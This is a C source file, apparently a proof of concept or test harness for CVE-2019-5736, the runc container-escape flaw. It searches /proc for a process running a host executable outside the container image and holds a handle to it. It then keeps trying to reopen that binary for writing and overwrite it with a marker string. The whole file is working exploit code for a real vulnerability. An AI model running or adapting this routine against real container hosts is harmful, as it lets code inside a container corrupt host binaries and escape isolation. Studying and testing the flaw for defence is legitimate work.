// CVE-2019-5736: waits for a process of a program that is not the container's own, keeps it open, and overwrites it as soon as
// nobody runs it any more.
//
//   overwrite MILLISECONDS
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <time.h>
#include <unistd.h>

static int is_of_image(const char *path)
{
    static const char *const own[] = { "/bin/", "/attack/", "/evil" };
    for (int i = 0; i < 3; i++)
        if (!strncmp(path, own[i], strlen(own[i])) && access(path, F_OK) == 0)
            return 1;
    return 0;
}

static int look(void)
{
    DIR *all = opendir("/proc");
    struct dirent *entry;
    int found = -1;
    while (found < 0 && (entry = readdir(all))) {
        char link[300], path[4096];
        if (entry->d_name[0] < '0' || entry->d_name[0] > '9')
            continue;
        snprintf(link, sizeof link, "/proc/%s/exe", entry->d_name);
        ssize_t length = readlink(link, path, sizeof path - 1);
        if (length <= 0)
            continue;
        path[length] = 0;
        if (!is_of_image(path))
            found = open(link, O_PATH | O_CLOEXEC);
        if (found < 0)
            continue;
        // It may have become a program of the image in between.
        snprintf(link, sizeof link, "/proc/self/fd/%d", found);
        length = readlink(link, path, sizeof path - 1);
        path[length < 0 ? 0 : length] = 0;
        // By a mount like that it can never be written; another's may be.
        struct statvfs mount;
        if (is_of_image(path) || fstatvfs(found, &mount) || mount.f_flag & ST_RDONLY) {
            close(found);
            found = -1;
        }
    }
    closedir(all);
    return found;
}

static long now(void)
{
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return time.tv_sec * 1000 + time.tv_nsec / 1000000;
}

int main(int argc, char **argv)
{
    long end = now() + atoi(argc > 1 ? argv[1] : "2000");
    int program = -1;
    close(creat("/watching", 0644));
    while (now() < end) {
        if (program < 0 && (program = look()) < 0)
            continue;
        char again[64];
        snprintf(again, sizeof again, "/proc/self/fd/%d", program);
        int writable = open(again, O_WRONLY);
        if (writable >= 0 && pwrite(writable, "pwned", 5, 0) == 5) {
            puts("OUT");
            return 0;
        }
    }
    puts(program < 0 ? "found none to be written" : "found one, and could not write it");
    return 1;
}
